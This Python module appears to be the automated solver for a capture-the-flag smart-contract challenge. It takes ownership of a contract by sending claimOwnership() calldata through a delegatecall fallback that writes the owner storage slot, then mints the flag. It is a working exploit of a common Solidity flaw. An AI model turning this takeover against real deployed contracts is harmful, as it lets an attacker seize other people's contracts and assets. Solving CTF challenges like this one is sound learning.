"""
Challenge 7 - Delegate call
"""

from .base import BaseChallenge, ChallengeResult


class DelegateCallChallenge(BaseChallenge):
    """
    Challenge7's fallback delegatecalls into Challenge7Delegate, whose
    claimOwnership() writes the owner slot of the caller's storage.
    """

    challenge_id = 7

    def get_name(self) -> str:
        return "Delegate Call"

    def get_description(self) -> str:
        return "Take ownership via claimOwnership() through the delegatecall fallback"

    async def execute(self) -> ChallengeResult:
        completed = await self.check_already_completed()
        if completed:
            return completed

        me = self.client.address.lower()
        current_owner = await self.call("Challenge7", "owner")
        self.logger.info(f"👤 Current owner: {current_owner}")

        if current_owner.lower() != me:
            challenge = self.client.contract(
                self.registry.address("Challenge7"), self.registry.abi("Challenge7")
            )
            calldata = challenge.encode_abi("claimOwnership")
            self.logger.info(f"⚔️  Calling claimOwnership() via fallback ({calldata})...")
            await self.client.send_raw(challenge.address, calldata)

            new_owner = await self.call("Challenge7", "owner")
            self.logger.info(f"👤 New owner: {new_owner}")
            if new_owner.lower() != me:
                return self._create_result(False, error_message="Failed to change owner")

        self.logger.info("🚩 Calling mintFlag()...")
        await self.transact("Challenge7", "mintFlag")

        return self._create_result(True, {"owner": self.client.address})
